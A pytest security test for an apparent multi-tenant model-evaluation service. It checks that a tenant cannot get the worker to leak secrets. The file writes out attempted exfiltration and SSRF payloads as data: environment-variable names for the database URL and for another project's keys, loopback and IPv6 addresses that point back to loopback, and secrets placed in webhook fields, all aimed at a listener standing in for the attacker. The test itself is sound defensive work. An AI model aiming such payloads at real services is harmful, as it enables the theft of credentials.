"""A tenant with a read-write key tries to make a worker send its secrets to a listener of the
tenant's (docs/reference.md §10): engine and judge api_key_env naming the worker's database URL or
another variable off the allow-list, base_url / metrics_url pointing at a loopback port that is
not allow-listed. The API refuses every attempt; rows written straight into the database
(bypassing the API, as rows stored before the policy would be) are refused by the worker at use
time. The listener, on loopback, records every request: zero may carry a secret (zero arrive)."""

from __future__ import annotations

import subprocess
import sys
import time
import uuid

import pytest

from tests.conftest import ROOT
from tests.faults.conftest import record
from tests.figures import report
from tests.loopback import free_port, serve_in_thread

JUDGE_KEY = f"judgekey{uuid.uuid4().hex}"
# the listener's name "localhost" is allow-listed, its address 127.0.0.1 is not: a request that
# names the address is an SSRF, one that names the host may still carry a stolen key
STACK = {"CANARY_REQUIRE_API_KEYS": "true", "CANARY_URL_ALLOWLIST": "localhost:*", "JUDGE_API_KEY": JUDGE_KEY,
         "CANARY_SECRET_FAULTS__TENANT_KEY": "tenant-key",
         # another team's secrets (project 'other'): named by 'faults' with a URL of its own, on the
         # allow-listed host, they would be sent there (security round 3, H1)
         "CANARY_SECRET_OTHER__ENGINE_KEY": "other-engine-key", "CANARY_SECRET_OTHER__SIGN": "other-signing-key"}


class Listener:
    """An OpenAI-looking server that answers the model list (so an engine would go on to send
    more) and records every request it gets."""

    def __init__(self):
        from fastapi import FastAPI, Request
        from fastapi.responses import JSONResponse

        self.requests: list[dict] = []
        self.app = FastAPI()

        @self.app.api_route("/{path:path}", methods=["GET", "POST", "PUT"])
        async def anything(request: Request, path: str):
            self.requests.append({"path": "/" + path, "headers": dict(request.headers), "body": (await request.body()).decode("latin-1")})
            if path.endswith("models"):
                return {"object": "list", "data": [{"id": "tiny", "object": "model", "max_model_len": 512}]}
            return JSONResponse({"error": {"message": "no"}}, status_code=404)


@pytest.mark.parametrize("fault_stack", [STACK], indirect=True)
def test_no_secret_reaches_a_tenants_listener(fault_stack, request):
    st = fault_stack
    listener = Listener()
    port = free_port()
    server = serve_in_thread(listener.app, port)
    by_name, by_address = f"http://localhost:{port}", f"http://127.0.0.1:{port}"
    try:
        out = subprocess.run([sys.executable, "-m", "app.cli", "keys", "create", "--project", "faults"], cwd=ROOT,
                             env=st.env, check=True, capture_output=True, text=True).stdout
        st.headers = {"Authorization": f"Bearer {out.strip().splitlines()[-1]}"}  # a read-write key
        http = st.http
        P = "/api/v1/projects/faults"
        assert http.post(f"{P}/models", json={"name": "tiny", "path": "builtin:pydoc-target"}).status_code == 201
        assert http.post(f"{P}/configs", json={"name": "fp16", "model": "tiny", "baseline": True}).status_code == 201
        # a candidate that succeeds, so that the judge has something to compare (and reports why it failed)
        assert http.post(f"{P}/configs", json={"name": "int8", "model": "tiny", "weights": "int8"}).status_code == 201
        docs = [{"id": f"d{i}", "text": f"os.path.join() joins {i} path components intelligently. " * 4} for i in range(8)]
        suite = {"name": "daily", "documents": docs, "samples": 8, "perplexity": {"window": 64},
                 "generation": {"prompts": 2, "prompt_words": 6, "max_new_tokens": 3}}
        assert http.post(f"{P}/suites", json=suite).status_code == 201

        engine = {"model": "tiny", "engine": "openai"}
        attempts = [
            ("configs", {**engine, "name": "a1", "engine_options": {"base_url": by_name + "/v1", "api_key_env": "CANARY_DATABASE_URL"}}),
            ("configs", {**engine, "name": "a2", "engine_options": {"base_url": by_name + "/v1", "metrics_url": by_address + "/metrics"}}),
            ("configs", {**engine, "name": "a3", "engine_options": {"base_url": by_address + "/v1", "api_key_env": "CANARY_SECRET_FAULTS__TENANT_KEY"}}),
            ("configs", {**engine, "name": "a4", "engine_options": {"base_url": f"http://[2002:7f00:1::]:{port}/v1"}}),
            ("suites", {**suite, "name": "j1", "scorers": ["perplexity", "generation", "judge"],
                        "judge": {"base_url": by_name + "/v1", "model": "j", "api_key_env": "JUDGE_API_KEY"}}),
            ("suites", {**suite, "name": "j2", "scorers": ["perplexity", "generation", "judge"],
                        "judge": {"base_url": by_address + "/v1", "model": "j"}}),
            ("channels", {"name": "h1", "kind": "webhook", "url": "${CANARY_DATABASE_URL}"}),
            ("channels", {"name": "h2", "kind": "webhook", "url": by_name + "/hook", "signing_secret": "${JUDGE_API_KEY}"}),
            ("channels", {"name": "h3", "kind": "webhook", "url": by_address + "/hook"}),
            # another project's secrets, each to a URL the policy would pass
            ("configs", {**engine, "name": "x1", "engine_options": {"base_url": by_name + "/v1",
                                                                    "api_key_env": "CANARY_SECRET_OTHER__ENGINE_KEY"}}),
            ("suites", {**suite, "name": "x2", "scorers": ["perplexity", "generation", "judge"],
                        "judge": {"base_url": by_name + "/v1", "model": "j", "api_key_env": "CANARY_SECRET_OTHER__ENGINE_KEY"}}),
            ("channels", {"name": "x3", "kind": "webhook", "url": "${CANARY_SECRET_OTHER__ENGINE_KEY}"}),
            ("channels", {"name": "x4", "kind": "webhook", "url": by_name + "/hook", "signing_secret": "${CANARY_SECRET_OTHER__SIGN}"}),
        ]
        refused = 0
        for what, body in attempts:
            r = http.put(f"{P}/{what}", json=body) if what == "channels" else http.post(f"{P}/{what}", json=body)
            assert r.status_code == 422, (body, r.status_code, r.text)
            if "OTHER" in str(body):
                assert "is not a secret of project 'faults'" in r.text and "CANARY_SECRET_FAULTS__" in r.text, r.text
            refused += 1

        # the same rows written straight into the database: the worker must refuse them at use
        [(base_spec,)] = st.sql("SELECT spec FROM optimization_configs WHERE name = 'fp16'")
        evil = {
            "steal-db-url": {"base_url": by_name + "/v1", "metrics_url": by_name + "/metrics", "api_key_env": "CANARY_DATABASE_URL"},
            "metrics-ssrf": {"base_url": by_name + "/v1", "metrics_url": by_address + "/metrics", "api_key_env": "CANARY_SECRET_FAULTS__TENANT_KEY"},
            "base-ssrf": {"base_url": by_address + "/v1", "api_key_env": "CANARY_SECRET_FAULTS__TENANT_KEY"},
            "steal-other": {"base_url": by_name + "/v1", "api_key_env": "CANARY_SECRET_OTHER__ENGINE_KEY"},
        }
        from psycopg.types.json import Json

        for name, opts in evil.items():
            spec = {**base_spec, "engine": "openai", "engine_options": opts}
            st.sql("INSERT INTO optimization_configs (project_id, model_id, name, spec, is_baseline, created_at) "
                   "SELECT project_id, model_id, %s, %s, false, created_at FROM optimization_configs WHERE name = 'fp16' RETURNING id",
                   name, Json(spec))
        [(suite_spec,)] = st.sql("SELECT spec FROM suites WHERE name = 'daily'")
        suite_spec = {**suite_spec, "scorers": ["perplexity", "generation", "judge"],
                      "judge": {**suite_spec.get("judge", {}), "base_url": by_name + "/v1", "model": "j", "api_key_env": "JUDGE_API_KEY"}}
        st.sql("UPDATE suites SET spec = %s WHERE name = 'daily' RETURNING id", Json(suite_spec))

        st.start_worker("gpu-a")
        r = http.post(f"{P}/runs", json={"suite": "daily"})
        assert r.status_code == 202, r.text
        run = st.wait_run(r.json()["run_id"])
        time.sleep(1)  # a request in flight would have arrived by now
    finally:
        server.should_exit = True

    crs = {c["config"]: c for c in run["configs"]}
    assert crs["fp16"]["status"] == "succeeded" and crs["int8"]["status"] == "succeeded", run
    for name in evil:
        assert crs[name]["status"] == "failed", crs[name]
    assert "'CANARY_DATABASE_URL' is not an allowed secret variable" in crs["steal-db-url"]["error"]
    assert "metrics_url: host '127.0.0.1' resolves to loopback" in crs["metrics-ssrf"]["error"]
    assert "base_url: host '127.0.0.1' resolves to loopback" in crs["base-ssrf"]["error"]
    assert "'CANARY_SECRET_OTHER__ENGINE_KEY' is not a secret of project 'faults'" in crs["steal-other"]["error"]
    [judge] = [c for c in run["comparisons"] if c["metric"] == "judge_win_rate"]
    assert "scorer 'judge' failed: judge.api_key_env: 'JUDGE_API_KEY' is not an allowed secret variable" in judge["rule"], judge

    db_url = st.env["CANARY_DATABASE_URL"]
    secrets = (db_url, JUDGE_KEY, "tenant-key", "postgresql://", "other-engine-key", "other-signing-key")
    carrying = [req for req in listener.requests if any(s in str(req) for s in secrets)]
    line = (f"exfiltration: {refused}/{len(attempts)} API attempts refused (422); {len(evil)} rows inserted behind the API's back "
            f"+ a judge, all refused by the worker; listener got {len(listener.requests)} requests, {len(carrying)} carrying a secret")
    report(request.config, "outbound policy", line)
    record("tenant names the worker's secrets (exfiltration)", 1, int(run["status"] in ("done", "failed")), 0, 0,
           f"{len(listener.requests)} requests at the listener, {len(carrying)} with a secret")
    assert carrying == []
    assert listener.requests == []
